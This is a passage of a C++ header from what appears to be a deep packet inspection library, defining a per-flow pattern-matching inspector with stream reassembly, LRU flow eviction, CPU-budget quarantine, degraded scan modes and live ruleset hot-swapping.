/// sorted by `seq` (binary-search insert): segment counts are tiny — a
/// handful of in-flight holes — so a flat sorted vector beats a node-based
/// map on both memory (no per-node allocation) and drain locality. The
/// tiered inspector's cold records use the same layout.
struct PendingSegment {
  std::uint64_t seq = 0;      ///< byte offset of bytes[0] within the flow
  std::uint64_t arrival = 0;  ///< inspector-wide tick, for oldest-drop
  std::vector<std::uint8_t> bytes;
};

/// Sorted-by-seq pending list shared by the flat and tiered inspectors.
using PendingList = std::vector<PendingSegment>;

/// First segment with seq >= `seq` (lower bound in the sorted list).
inline PendingList::iterator pending_lower_bound(PendingList& list,
                                                 std::uint64_t seq) {
  return std::lower_bound(
      list.begin(), list.end(), seq,
      [](const PendingSegment& s, std::uint64_t q) { return s.seq < q; });
}

/// Requirements FlowInspector places on an engine: an immutable, shareable
/// compiled automaton exposing a cheap per-flow Context (the paper's
/// (q, m)) and a context-threaded feed. All six engines (Nfa, Dfa,
/// CompactDfa, Hfa, Xfa, Mfa) satisfy this.
template <typename EngineT>
concept ScanEngine = requires(const EngineT& e, typename EngineT::Context& ctx,
                              const std::uint8_t* data) {
  { e.make_context() } -> std::same_as<typename EngineT::Context>;
  { e.context_bytes() } -> std::convertible_to<std::size_t>;
  e.feed(ctx, data, std::size_t{0}, std::uint64_t{0},
         [](std::uint32_t, std::uint64_t) {});
};

/// Engines that additionally expose the K-way interleaved batch kernel
/// (feed_many; today the table-driven Dfa, CompactDfa and Mfa).
/// FlowInspector::packet_batch uses it when available and falls back to
/// sequential feed() calls otherwise, so batching works with every engine.
template <typename EngineT>
concept BatchScanEngine =
    ScanEngine<EngineT> &&
    requires(const EngineT& e, scan::FeedJob<typename EngineT::Context>* jobs) {
      e.feed_many(jobs, std::size_t{0},
                  [](std::size_t, std::uint32_t, std::uint64_t) {}, std::size_t{1});
    };

/// Engines exposing the SIMD literal-prefilter gate (today the Mfa,
/// DESIGN.md §13): prefilter_gate() may prove a chunk literal-free and
/// advance the context past it without a full scan (simd::Gate::kSkip).
/// The inspectors consult it before every in-order feed and count the
/// outcomes (mfa_prefilter_{pass,skip}_total).
template <typename EngineT>
concept PrefilterEngine =
    ScanEngine<EngineT> &&
    requires(const EngineT& e, typename EngineT::Context& ctx,
             const std::uint8_t* data) {
      { e.prefilter_gate(ctx, data, std::size_t{0}) } -> std::same_as<simd::Gate>;
    };

/// Engines exposing a *stateless* literal probe (today the Mfa): "could
/// this chunk contain a match?" with no per-flow context involved. The
/// degraded scan modes below use it as their detection signal; engines
/// without one degrade to full scanning (a probe that cannot prove absence
/// reports everything suspicious).
template <typename EngineT>
concept ProbeEngine =
    ScanEngine<EngineT> && requires(const EngineT& e, const std::uint8_t* data) {
      { e.prefilter_probe(data, std::size_t{0}) } -> std::same_as<bool>;
    };

/// Scan-fidelity ladder rung an inspector runs at (DESIGN.md §14). The
/// degradation controller moves inspectors down this ladder under overload
/// and back up when pressure clears; L3 (count-and-bypass) lives above the
/// inspector, in the pipeline's shed path.
enum class ScanMode : std::uint8_t {
  /// L0: every in-order chunk takes the exact scan path (prefilter gate
  /// included) — the only mode with exact match semantics.
  kFull,
  /// L1: 1-in-2^k flows (by key hash) keep the exact path; the rest scan a
  /// chunk only when the literal probe fires on it. Probe-quiet chunks are
  /// skipped without tail replay, so non-sampled flows are approximate:
  /// full fidelity on suspicious bytes, none spent proving clean bytes clean.
  kSampled,
  /// L2: no automaton advance at all — probe-positive chunks are recorded
  /// as degraded detection hits (degraded_hit_count()), probe-quiet chunks
  /// are dropped. Detection-only: tells the operator *that* suspicious
  /// traffic exists, not which rule matched where.
  kPrefilterOnly,
};

/// What happens to flows whose context was built by a previous engine
/// generation when adopt_engine() publishes a new one (DESIGN.md Sec. 10).
enum class SwapPolicy : std::uint8_t {
  /// The flow's (q, m) restarts on the new engine at its next packet; the
  /// stream position and buffered out-of-order segments are kept, so the
  /// flow keeps scanning the same byte stream under the new rules.
  kResetOnNextPacket,
  /// Existing flows finish their lifetime on the generation that created
  /// their context; only new flows use the new engine. The old generation
  /// is retired epoch-style: its pin is released when its last flow goes.
  kDrainOld,
};

/// Multiplexing inspector over the Engine/Context split. Stores one shared
/// Engine reference for ALL flows and exactly one Context per flow — no
/// per-flow engine copies or pointers — so the per-flow footprint is
/// engine.context_bytes() plus reassembly bookkeeping.
///
/// `max_flows` bounds the flow table (0 = unbounded): when a new flow would
/// exceed it, the least-recently-active flow's context is evicted in O(1)
/// via an intrusive LRU list — the standard DPI memory-bound strategy, and
/// the reason small per-flow contexts matter (paper Sec. III-A).
///
/// `max_pending_bytes` bounds each flow's out-of-order buffer (0 =
/// unbounded); overflow drops the oldest buffered segment and counts it in
/// reassembly_dropped_count().
///
/// The engine must outlive the inspector. Not thread-safe; under the
/// sharded pipeline each worker thread owns one FlowInspector.
template <typename EngineT>
  requires ScanEngine<EngineT>
class FlowInspector {
 public:
  using Context = typename EngineT::Context;

  explicit FlowInspector(const EngineT& engine, std::size_t max_flows = 0,
                         std::size_t max_pending_bytes = kDefaultMaxPendingBytes)
      : engine_(&engine), max_flows_(max_flows), max_pending_(max_pending_bytes) {}

  /// Per-flow record: one engine Context plus reassembly bookkeeping and
  /// the intrusive LRU links. Public so tests can verify the storage
  /// contract (no per-flow engine duplication) by inspecting its layout.
  struct FlowState {
    using PendingSegment = flow::PendingSegment;

    Context ctx;  ///< the engine's per-flow (q, m)
    std::uint64_t context_generation = 0;  ///< engine generation ctx belongs to
    std::uint64_t next_offset = 0;
    std::uint64_t pending_bytes = 0;
    std::uint64_t batch_stamp = 0;  ///< last packet_batch wave that fed this flow
    std::uint64_t scan_ticks = 0;   ///< cumulative TSC ticks spent scanning this flow
    PendingList pending;  ///< sorted by seq
    FlowState* lru_prev = nullptr;
    FlowState* lru_next = nullptr;
    FlowKey key;  ///< back-reference for O(1) LRU eviction
  };

  /// Attach telemetry (DESIGN.md Sec. 8): scan counters, latency histograms,
  /// per-match-id counts, and trace-ring events flow into the registry's
  /// shard slot `shard_index`. Pass nullptr to detach. When detached
  /// (the default) the instrumented path reduces to one branch per packet.
  void set_metrics(obs::MetricsRegistry* registry, std::size_t shard_index = 0) {
    registry_ = registry;
    metrics_ = registry != nullptr ? &registry->shard(shard_index) : nullptr;
    // Pre-resolve the tick→ns factor so the per-packet path never pays the
    // one-time TSC calibration.
    if (registry != nullptr) ns_per_tick_ = 1e9 / util::tsc_ticks_per_second();
  }

  /// Attach the sampled cost profiler (DESIGN.md Sec. 12). Requires
  /// set_metrics() to also be attached — profiling rides the instrumented
  /// path and reuses its precise scan timing. 1-in-2^shift scan units
  /// (packets on the packet() path, bursts on the batch path) attribute
  /// their nanoseconds and bytes to the match-ids they produced and sample
  /// the automaton state of the flows they touched. Pass nullptr to detach.
  void set_profiler(obs::Profiler* profiler) {
    profiler_ = profiler;
    profile_mask_ = profiler != nullptr ? profiler->sample_mask() : 0;
  }

  /// Per-flow CPU budget (DESIGN.md Sec. 9): cumulative scan time charged
  /// to each flow's context; a flow whose total crosses `ns` nanoseconds is
  /// quarantined — its state evicted with an obs::kFlowQuarantinedEventId
  /// trace event, and every later packet of that flow dropped (counted in
  /// quarantined_packet_count()) — so one adversarial, ReDoS-shaped flow
  /// cannot starve the siblings sharing this inspector. 0 disables (the
  /// default; no timing is taken then). Under packet_batch the interleaved
  /// kernel's time is apportioned to flows by bytes fed.
  void set_cpu_budget_ns(std::uint64_t ns) {
    cpu_budget_ns_ = ns;
    budget_ticks_ = 0;
    if (ns != 0) {
      const double ticks =
          static_cast<double>(ns) * util::tsc_ticks_per_second() / 1e9;
      budget_ticks_ = ticks < 1.0 ? 1 : static_cast<std::uint64_t>(ticks);
    }
  }
  [[nodiscard]] std::uint64_t cpu_budget_ns() const { return cpu_budget_ns_; }

  /// True when `key` has been quarantined (and not yet aged out of the
  /// bounded quarantine memory).
  [[nodiscard]] bool is_quarantined(const FlowKey& key) const {
    return !quarantined_.empty() && quarantined_.count(key) != 0;
  }

  /// Flows evicted for exceeding the CPU budget.
  [[nodiscard]] std::uint64_t quarantined_flow_count() const {
    return flows_quarantined_;
  }

  /// Packets dropped because their flow was already quarantined.
  [[nodiscard]] std::uint64_t quarantined_packet_count() const {
    return quarantined_packets_;
  }

  /// Chunks the literal prefilter proved clean and skipped (full scan
  /// avoided, tail replay only). Always 0 unless the engine's gate is armed.
  [[nodiscard]] std::uint64_t prefilter_skip_count() const {
    return prefilter_skips_;
  }

  /// Gate-eligible chunks that carried a literal candidate, so the full
  /// scan ran ("pass" = passed through the gate into the automaton).
  [[nodiscard]] std::uint64_t prefilter_pass_count() const {
    return prefilter_passes_;
  }

  // --- degraded scan modes (DESIGN.md §14) ---

  /// Set the fidelity rung this inspector scans at. `sample_shift` is the
  /// L1 sampling exponent: 1-in-2^shift flows keep the exact path. Owned by
  /// the shard worker (the degradation controller runs worker-side), so no
  /// synchronization: mode changes apply from the next chunk on.
  void set_scan_mode(ScanMode mode, std::uint32_t sample_shift = 3) {
    mode_ = mode;
    sample_mask_ = (std::uint64_t{1} << (sample_shift < 63 ? sample_shift : 63)) - 1;
  }
  [[nodiscard]] ScanMode scan_mode() const { return mode_; }

  /// Probe-positive chunks seen in kPrefilterOnly mode: "suspicious traffic
  /// was present" detections recorded while the automaton was parked.
  [[nodiscard]] std::uint64_t degraded_hit_count() const { return degraded_hits_; }

  /// Deliver one packet. sink(match_id, flow_offset) fires for confirmed
  /// matches; positions are byte offsets within the flow's stream. Packets
  /// of quarantined flows are dropped (counted, never scanned).
  template <typename Sink>
  void packet(const Packet& p, Sink&& sink) {
    if (is_quarantined(p.key)) {
      ++quarantined_packets_;
      return;
    }
    if (metrics_ == nullptr) {
      deliver(p, [&](FlowState&, std::uint32_t id, std::uint64_t end) { sink(id, end); });
      return;
    }
    obs::ShardMetrics& m = *metrics_;
    m.packets.fetch_add(1, std::memory_order_relaxed);
    m.bytes.fetch_add(p.length, std::memory_order_relaxed);
    m.packet_bytes.record(p.length);
    const bool sampled =
        profiler_ != nullptr && (++profile_tick_ & profile_mask_) == 0;
    if (sampled) profile_ids_.clear();
    const std::uint64_t t0 = util::rdtsc_now();
    deliver(p, [&](FlowState& fs, std::uint32_t id, std::uint64_t end) {
      m.matches.fetch_add(1, std::memory_order_relaxed);
      registry_->count_match(id);
      if (generation_active_) registry_->count_match_generation(fs.context_generation);
      registry_->trace().record(p.key.src_ip, p.key.dst_ip, p.key.src_port,
                                p.key.dst_port, p.key.proto, id, end,
                                util::rdtsc_now());
      if (sampled) profile_ids_.push_back(id);
      sink(id, end);
    });
    const double ticks = static_cast<double>(util::rdtsc_now() - t0);
    const auto scan_ns = static_cast<std::uint64_t>(ticks * ns_per_tick_);
    m.scan_ns.record(scan_ns);
    if (sampled) {
      profiler_->record_rules(profile_ids_.data(), profile_ids_.size(), scan_ns,
                              p.length);
      // The flow may be gone (quarantined mid-deliver), hence the lookup.
      const auto it = flows_.find(p.key);
      if (it != flows_.end())
        profiler_->record_state(
            engine_for(it->second).context_state(it->second.ctx));
    }
    // Gauges/counters mirrored every packet so mid-run snapshots are live.
    m.flows.store(flows_.size(), std::memory_order_relaxed);
    m.evictions.store(evicted_, std::memory_order_relaxed);
    m.reassembly_drops.store(reassembly_dropped_, std::memory_order_relaxed);
    m.reassembly_pending_bytes.store(total_pending_, std::memory_order_relaxed);
  }

  /// Interleave width for packet_batch() when the engine supports
  /// feed_many (ignored otherwise). See DESIGN.md Sec. 7 on K selection.
  void set_batch_lanes(std::size_t lanes) { batch_lanes_ = lanes == 0 ? 1 : lanes; }
  [[nodiscard]] std::size_t batch_lanes() const { return batch_lanes_; }

  /// Per-inspector kill-switch for the literal-prefilter gate (A/B runs,
  /// bench overhead measurement). `MFA_PREFILTER=off` disarms the gate
  /// process-wide at engine build time; this toggles it per inspector at
  /// runtime. Off means every chunk takes the plain feed path.
  void set_prefilter(bool on) { prefilter_on_ = on; }
  [[nodiscard]] bool prefilter_enabled() const { return prefilter_on_; }

  /// Deliver a burst of packets (any mix of flows) with exact per-flow
  /// in-order semantics: packets of the same flow are applied in burst
  /// order, one "wave" at a time, while distinct flows' in-order bytes
  /// advance through the engine's K-way interleaved feed_many. Matches are
  /// byte-identical to calling packet() per packet, except that flow-table
  /// LRU recency (and therefore eviction choice under max_flows) is
  /// burst-granular rather than packet-granular.
  template <typename Sink>
  void packet_batch(const Packet* pkts, std::size_t count, Sink&& sink) {
    packet_batch_flows(
        pkts, count,
        [&](const FlowKey&, std::uint32_t id, std::uint64_t end) { sink(id, end); },
        [](const Packet&) {});
  }

  /// packet_batch with flow attribution: sink(flow_key, match_id, offset)
  /// for matches, dsink(packet) for every packet dropped because its flow is
  /// quarantined. The pipeline's fault-tolerant accounting (and any caller
  /// that must prove "every packet was scanned or counted") uses this form.
  template <typename KeySink, typename DropSink>
  void packet_batch_flows(const Packet* pkts, std::size_t count, KeySink&& sink,
                          DropSink&& dsink) {
    packet_batch_attributed(
        pkts, count,
        [&](const FlowKey& key, std::uint64_t, std::uint32_t id, std::uint64_t end) {
          sink(key, id, end);
        },
        std::forward<DropSink>(dsink));
  }

  /// packet_batch_flows plus engine-generation attribution:
  /// sink(flow_key, context_generation, match_id, offset). Across a hot
  /// swap this is what lets the pipeline prove each match against the
  /// ruleset generation that actually scanned the flow.
  template <typename GenSink, typename DropSink>
  void packet_batch_attributed(const Packet* pkts, std::size_t count, GenSink&& sink,
                               DropSink&& dsink) {
    if (count == 0) return;
    if (metrics_ == nullptr) {
      deliver_batch(
          pkts, count,
          [&](FlowState& fs, std::uint32_t id, std::uint64_t end) {
            sink(fs.key, fs.context_generation, id, end);
          },
          dsink);
      return;
    }
    obs::ShardMetrics& m = *metrics_;
    // Mid-run snapshot ordering (DESIGN.md Sec. 8): packet_bytes records
    // before the scan and packets increments after scan_ns, so a snapshot
    // still sees packets <= scan_ns.count + 1 and
    // packet_bytes.count >= scan_ns.count.
    std::uint64_t burst_bytes = 0;
    for (std::size_t i = 0; i < count; ++i) {
      burst_bytes += pkts[i].length;
      m.packet_bytes.record(pkts[i].length);
    }
    m.bytes.fetch_add(burst_bytes, std::memory_order_relaxed);
    const bool sampled =
        profiler_ != nullptr && (++profile_tick_ & profile_mask_) == 0;
    if (sampled) profile_ids_.clear();
    const std::uint64_t t0 = util::rdtsc_now();
    deliver_batch(
        pkts, count,
        [&](FlowState& fs, std::uint32_t id, std::uint64_t end) {
          m.matches.fetch_add(1, std::memory_order_relaxed);
          registry_->count_match(id);
          if (generation_active_) registry_->count_match_generation(fs.context_generation);
          registry_->trace().record(fs.key.src_ip, fs.key.dst_ip, fs.key.src_port,
                                    fs.key.dst_port, fs.key.proto, id, end,
                                    util::rdtsc_now());
          if (sampled) profile_ids_.push_back(id);
          sink(fs.key, fs.context_generation, id, end);
        },
        dsink);
    const double ticks = static_cast<double>(util::rdtsc_now() - t0);
    // The burst is timed as one unit; scan_ns keeps its one-sample-per-
    // packet contract by recording the per-packet share `count` times.
    const auto per_packet = static_cast<std::uint64_t>(
        ticks * ns_per_tick_ / static_cast<double>(count));
    for (std::size_t i = 0; i < count; ++i) m.scan_ns.record(per_packet);
    if (sampled) {
      // Burst-granular sample: the whole burst's ns/bytes split across the
      // match-ids it produced, states sampled per packet of the burst.
      profiler_->record_rules(profile_ids_.data(), profile_ids_.size(),
                              static_cast<std::uint64_t>(ticks * ns_per_tick_),
                              burst_bytes);
      for (std::size_t i = 0; i < count; ++i) {
        const auto it = flows_.find(pkts[i].key);
        if (it != flows_.end())
          profiler_->record_state(
              engine_for(it->second).context_state(it->second.ctx));
      }
    }
    m.packets.fetch_add(count, std::memory_order_relaxed);
    m.flows.store(flows_.size(), std::memory_order_relaxed);
    m.evictions.store(evicted_, std::memory_order_relaxed);
    m.reassembly_drops.store(reassembly_dropped_, std::memory_order_relaxed);
    m.reassembly_pending_bytes.store(total_pending_, std::memory_order_relaxed);
  }

  /// Number of flows currently tracked.
  [[nodiscard]] std::size_t flow_count() const { return flows_.size(); }

  /// Flows evicted to honour max_flows.
  [[nodiscard]] std::uint64_t evicted_count() const { return evicted_; }

  /// Out-of-order segments dropped to honour max_pending_bytes.
  [[nodiscard]] std::uint64_t reassembly_dropped_count() const {
    return reassembly_dropped_;
  }

  /// Out-of-order bytes currently buffered across all flows.
  [[nodiscard]] std::uint64_t reassembly_pending_bytes() const {
    return total_pending_;
  }

  /// Logical per-flow context footprint (the engine's (q, m) bytes).
  [[nodiscard]] std::size_t context_bytes() const { return engine_->context_bytes(); }

  [[nodiscard]] const EngineT& engine() const { return *engine_; }

  // --- live ruleset hot-swap (DESIGN.md Sec. 10) ---

  /// Replace the engine all *new* work runs on. `generation` must be a
  /// value never passed before (the pipeline hands out a monotonically
  /// increasing counter); `pin` keeps the new engine's owner (e.g. a
  /// reload::EngineSet) alive for as long as this inspector references it.
  ///
  /// Flows whose context belongs to the previous generation follow
  /// `policy`; the previous generation is retired — its engine pointer and
  /// pin are kept in a per-generation record until the last such flow is
  /// reset, drained/evicted or cleared, at which point the pin drops and a
  /// refcounted owner can be destroyed. With no live flows the old pin is
  /// released immediately. Swaps are rare: the O(flow-table) census here is
  /// paid per swap, never per packet.
  void adopt_engine(const EngineT& engine, std::uint64_t generation, SwapPolicy policy,
                    std::shared_ptr<const void> pin = nullptr) {
    // Re-adopting the current generation (worker restart replaying a staged
    // swap) is a no-op — in particular it must not retire the generation
    // it is itself publishing.
    if (generation_active_ && generation == current_generation_) return;
    std::size_t live = 0;
    for (const auto& [key, fs] : flows_)
      if (fs.context_generation == current_generation_) ++live;
    if (live > 0)
      retired_.push_back(Retired{current_generation_, engine_, std::move(current_pin_),
                                 live, policy == SwapPolicy::kDrainOld});
    engine_ = &engine;
    current_pin_ = std::move(pin);
    current_generation_ = generation;
    generation_active_ = true;
  }

  /// Generation all new flows (and, under kResetOnNextPacket, re-adopted
  /// flows) are tagged with. 0 until the first adopt_engine().
  [[nodiscard]] std::uint64_t current_generation() const { return current_generation_; }

  /// Retired generations still pinned by at least one live flow context.
  [[nodiscard]] std::size_t retired_generation_count() const { return retired_.size(); }

  /// Live flows whose context still belongs to `generation`.
  [[nodiscard]] std::size_t flows_on_generation(std::uint64_t generation) const {
    std::size_t n = 0;
    for (const auto& [key, fs] : flows_)
      if (fs.context_generation == generation) ++n;
    return n;
  }

  /// Drop a finished flow's context.
  void evict(const FlowKey& key) {
    auto it = flows_.find(key);
    if (it == flows_.end()) return;
    release_flow(it->second);
    total_pending_ -= it->second.pending_bytes;
    lru_unlink(&it->second);
    flows_.erase(it);
  }

  /// Crash-recovery reset (DESIGN.md §14): drop `key`'s state so its next
  /// packet re-creates a fresh context. Distinct from evict() only in
  /// intent and accounting — the flow is not leaving for capacity reasons,
  /// its last burst never committed, so this does NOT count an eviction.
  /// Returns true when a flow actually existed (callers count those in
  /// flows_recovered).
  bool reset_flow(const FlowKey& key) {
    auto it = flows_.find(key);
    if (it == flows_.end()) return false;
    release_flow(it->second);
    total_pending_ -= it->second.pending_bytes;
    lru_unlink(&it->second);
    flows_.erase(it);
    return true;
  }

  /// Drop every flow and reset all derived per-inspector bookkeeping in one
  /// place — the recency/arrival tick, the batch-wave counter, buffered
  /// reassembly accounting, and the live gauges mirrored into the metrics
  /// shard (the watchdog calls this when it restarts a crashed worker, and
  /// stale gauges would otherwise survive until the next packet).
  ///
  /// Deliberately NOT reset: the monotone totals (evicted_count,
  /// reassembly_dropped_count, quarantined_flow/packet_count), which are
  /// cumulative across restarts, and the quarantine memory itself — a
  /// hostile flow must not escape quarantine by crashing the worker
  /// (DESIGN.md Sec. 9).
  void clear() {
    flows_.clear();
    retired_.clear();  // no live contexts left: every old-generation pin drops
    total_pending_ = 0;
    arrival_tick_ = 0;
    batch_wave_ = 0;
    batch_jobs_.clear();
    batch_job_flows_.clear();
    batch_cur_.clear();
    batch_deferred_.clear();
    lru_head_ = nullptr;
    lru_tail_ = nullptr;
    if (metrics_ != nullptr) {
      metrics_->flows.store(0, std::memory_order_relaxed);
      metrics_->reassembly_pending_bytes.store(0, std::memory_order_relaxed);
    }
  }

 private:
  /// The uninstrumented delivery path; packet() wraps it with telemetry.
  /// fsink(flow_state, id, end) so wrappers can attribute the match to the
  /// owning flow and its engine generation.
  template <typename FlowSink>
  void deliver(const Packet& p, FlowSink&& fsink) {
    FlowState& fs = flow(p.key);
    if (p.seq > fs.next_offset) {
      // Out of order: hold the segment until the gap fills.
      buffer_segment(fs, p);
      return;
    }
    const EngineT& eng = engine_for(fs);
    const auto sink = [&](std::uint32_t id, std::uint64_t end) { fsink(fs, id, end); };
    // Possibly-overlapping retransmission: skip already-delivered bytes.
    const std::uint64_t skip = fs.next_offset - p.seq;
    if (budget_ticks_ == 0) {
      if (skip < p.length) {
        feed_or_skip(eng, fs, p.payload + skip, p.length - skip, fs.next_offset, sink);
        fs.next_offset += p.length - skip;
      }
      drain(fs, sink);
      return;
    }
    const std::uint64_t t0 = util::rdtsc_now();
    if (skip < p.length) {
      feed_or_skip(eng, fs, p.payload + skip, p.length - skip, fs.next_offset, sink);
      fs.next_offset += p.length - skip;
    }
    drain(fs, sink);
    fs.scan_ticks += util::rdtsc_now() - t0;
    maybe_quarantine(fs);  // may erase fs — nothing touches it afterwards
  }

  /// Gate-aware feed: consult the degraded-mode admission first, then the
  /// engine's prefilter gate (when it has one), before paying for the full
  /// scan. On any skip the caller still advances next_offset (only the
  /// prefilter gate's kSkip also advances the context, via tail replay).
  template <typename Sink>
  void feed_or_skip(const EngineT& eng, FlowState& fs, const std::uint8_t* data,
                    std::size_t size, std::uint64_t base, Sink&& sink) {
    if (mode_ != ScanMode::kFull && !deep_scan_chunk(fs.key, data, size)) return;
    if constexpr (PrefilterEngine<EngineT>) {
      if (prefilter_on_) {
        const simd::Gate g = eng.prefilter_gate(fs.ctx, data, size);
        if (g != simd::Gate::kNone) note_prefilter(g == simd::Gate::kSkip);
        if (g == simd::Gate::kSkip) return;
      }
    }
    eng.feed(fs.ctx, data, size, base, sink);
  }

  /// Degraded-mode admission (DESIGN.md §14): does this chunk get an
  /// automaton feed? kSampled admits sampled flows unconditionally and the
  /// rest only on a positive literal probe; kPrefilterOnly admits nothing
  /// and records probe-positive chunks as degraded hits.
  bool deep_scan_chunk(const FlowKey& key, const std::uint8_t* data,
                       std::size_t size) {
    if (mode_ == ScanMode::kSampled &&
        (FlowKeyHash{}(key) & sample_mask_) == 0)
      return true;
    const bool hit = probe_chunk(data, size);
    if (mode_ == ScanMode::kPrefilterOnly) {
      if (hit) note_degraded_hit();
      return false;
    }
    return hit;  // kSampled, non-sampled flow: scan only suspicious chunks
  }

  [[nodiscard]] bool probe_chunk(const std::uint8_t* data, std::size_t size) const {
    if constexpr (ProbeEngine<EngineT>) {
      return engine_->prefilter_probe(data, size);
    } else {
      (void)data;
      (void)size;
      return true;  // no probe: cannot prove absence, everything suspicious
    }
  }

  void note_degraded_hit() {
    ++degraded_hits_;
    if (metrics_ != nullptr)
      metrics_->degraded_hits.fetch_add(1, std::memory_order_relaxed);
  }

  void note_prefilter(bool skipped) {
    if (skipped)
      ++prefilter_skips_;
    else
      ++prefilter_passes_;
    if (metrics_ != nullptr) {
      auto& counter = skipped ? metrics_->prefilter_skip : metrics_->prefilter_pass;
      counter.fetch_add(1, std::memory_order_relaxed);
    }
  }

  /// Batch delivery core. fsink(flow_state, id, end) so the instrumented
  /// wrapper can attribute matches (trace ring) to the owning flow.
  ///
  /// Wave discipline: each pass over the remaining packets claims at most
  /// one in-order feed per flow (stamping the FlowState with the wave id);
  /// later same-flow packets defer to the next wave, which runs only after
  /// this wave's feed_many + drains. Cross-flow work interleaves, same-flow
  /// work never does — the ordering guarantee DESIGN.md Sec. 7 documents.
  template <typename FlowSink, typename DropSink>
  void deliver_batch(const Packet* pkts, std::size_t count, FlowSink&& fsink,
                     DropSink&& dsink) {
    auto& jobs = batch_jobs_;
    auto& jflows = batch_job_flows_;
    auto& cur = batch_cur_;
    auto& deferred = batch_deferred_;
    jobs.clear();
    jflows.clear();
    cur.clear();
    for (std::size_t i = 0; i < count; ++i) cur.push_back(static_cast<std::uint32_t>(i));

    const auto flush = [&] {
      if (jobs.empty()) return;
      if (budget_ticks_ == 0) {
        feed_jobs(jobs.data(), jobs.size(), fsink);
        for (FlowState* fs : jflows)
          drain(*fs, [&](std::uint32_t id, std::uint64_t end) { fsink(*fs, id, end); });
      } else {
        // Budgeted: the interleaved kernel runs K flows at once, so its
        // time is apportioned to flows by bytes fed; drains are per-flow
        // and timed exactly. Quarantine checks run last because they may
        // erase FlowStates that jobs/jflows still reference.
        std::uint64_t total_bytes = 0;
        for (const auto& j : jobs) total_bytes += j.size;
        const std::uint64_t t0 = util::rdtsc_now();
        feed_jobs(jobs.data(), jobs.size(), fsink);
        const std::uint64_t feed_ticks = util::rdtsc_now() - t0;
        for (std::size_t i = 0; i < jobs.size(); ++i)
          jflows[i]->scan_ticks += total_bytes == 0
                                       ? 0
                                       : feed_ticks * jobs[i].size / total_bytes;
        for (FlowState* fs : jflows) {
          const std::uint64_t d0 = util::rdtsc_now();
          drain(*fs, [&](std::uint32_t id, std::uint64_t end) { fsink(*fs, id, end); });
          fs->scan_ticks += util::rdtsc_now() - d0;
        }
        for (FlowState* fs : jflows) maybe_quarantine(*fs);  // may erase fs
      }
      jobs.clear();
      jflows.clear();
    };

    while (!cur.empty()) {
      const std::uint64_t wave = ++batch_wave_;
      deferred.clear();
      for (const std::uint32_t idx : cur) {
        const Packet& p = pkts[idx];
        if (is_quarantined(p.key)) {
          ++quarantined_packets_;
          dsink(p);
          continue;
        }
        // Feeding is deferred within a wave, so the LRU eviction a *new*
        // flow's insertion can trigger might otherwise tear down a
        // FlowState that still has a queued job: flush queued work first.
        if (max_flows_ != 0 && flows_.size() >= max_flows_ && !jobs.empty() &&
            flows_.find(p.key) == flows_.end())
          flush();
        FlowState& fs = flow(p.key);
        if (fs.batch_stamp == wave) {
          deferred.push_back(idx);  // same flow already fed this wave
          continue;
        }
        if (p.seq > fs.next_offset) {
          buffer_segment(fs, p);  // out of order: hold until the gap fills
          continue;
        }
        const std::uint64_t skip = fs.next_offset - p.seq;
        // Fully already-delivered bytes feed nothing, and pending segments
        // all start past next_offset (drain invariant), so nothing drains.
        if (skip >= p.length) continue;
        fs.batch_stamp = wave;
        const std::uint8_t* data = p.payload + skip;
        const std::size_t len = p.length - skip;
        const std::uint64_t base = fs.next_offset;
        if (mode_ != ScanMode::kFull && !deep_scan_chunk(p.key, data, len)) {
          // Degraded skip: no job, no context advance — but the offset moves
          // and any gap the skipped bytes filled still drains (the drain's
          // own feeds re-check the mode).
          fs.next_offset += len;
          const auto sink = [&](std::uint32_t id, std::uint64_t end) {
            fsink(fs, id, end);
          };
          if (budget_ticks_ == 0) {
            drain(fs, sink);
          } else {
            const std::uint64_t t0 = util::rdtsc_now();
            drain(fs, sink);
            fs.scan_ticks += util::rdtsc_now() - t0;
            maybe_quarantine(fs);  // may erase fs — nothing touches it after
          }
          continue;
        }
        if constexpr (PrefilterEngine<EngineT>) {
          // Gate at job-materialization time: a proven-clean chunk never
          // becomes a job (its context is already advanced), so the
          // interleaved kernel's lanes carry only chunks that need scanning.
          const simd::Gate g = prefilter_on_
                                   ? engine_for(fs).prefilter_gate(fs.ctx, data, len)
                                   : simd::Gate::kNone;
          if (g != simd::Gate::kNone) note_prefilter(g == simd::Gate::kSkip);
          if (g == simd::Gate::kSkip) {
            fs.next_offset += len;
            // No job this wave, so flush() won't drain this flow — but the
            // skipped bytes may have filled a gap; drain here instead.
            const auto sink = [&](std::uint32_t id, std::uint64_t end) {
              fsink(fs, id, end);
            };
            if (budget_ticks_ == 0) {
              drain(fs, sink);
            } else {
              const std::uint64_t t0 = util::rdtsc_now();
              drain(fs, sink);
              fs.scan_ticks += util::rdtsc_now() - t0;
              maybe_quarantine(fs);  // may erase fs — nothing touches it after
            }
            continue;
          }
        }
        jobs.push_back({&fs.ctx, data, len, base});
        jflows.push_back(&fs);
        fs.next_offset += len;
      }
      flush();
      cur.swap(deferred);
    }
  }

  /// Feed the queued distinct-flow jobs: the engine's interleaved kernel
  /// when it has one, sequential feed() calls otherwise. Right after a
  /// kDrainOld swap a burst can mix generations; the interleaved kernel
  /// must never advance two flows through *different* engines in one pass,
  /// so mixed bursts run one feed_many per generation present (transient —
  /// the moment old flows retire the homogeneous fast path is back).
  template <typename FlowSink>
  void feed_jobs(scan::FeedJob<Context>* jobs, std::size_t count, FlowSink& fsink) {
    const auto lane_sink = [&](std::size_t job, std::uint32_t id, std::uint64_t end) {
      fsink(*batch_job_flows_[job], id, end);
    };
    if constexpr (BatchScanEngine<EngineT>) {
      const std::uint64_t g0 = batch_job_flows_[0]->context_generation;
      bool mixed = false;
      for (std::size_t i = 1; i < count && !mixed; ++i)
        mixed = batch_job_flows_[i]->context_generation != g0;
      if (!mixed) {
        engine_for_generation(g0).feed_many(jobs, count, lane_sink, batch_lanes_);
        return;
      }
      mixed_done_.assign(count, 0);
      std::size_t remaining = count;
      while (remaining > 0) {
        mixed_jobs_.clear();
        mixed_index_.clear();
        std::uint64_t gen = 0;
        bool have_gen = false;
        for (std::size_t i = 0; i < count; ++i) {
          if (mixed_done_[i] != 0) continue;
          const std::uint64_t g = batch_job_flows_[i]->context_generation;
          if (!have_gen) {
            gen = g;
            have_gen = true;
          }
          if (g != gen) continue;
          mixed_jobs_.push_back(jobs[i]);  // FeedJob copies share the ctx pointer
          mixed_index_.push_back(i);
          mixed_done_[i] = 1;
        }
        remaining -= mixed_jobs_.size();
        engine_for_generation(gen).feed_many(
            mixed_jobs_.data(), mixed_jobs_.size(),
            [&](std::size_t j, std::uint32_t id, std::uint64_t end) {
              lane_sink(mixed_index_[j], id, end);
            },
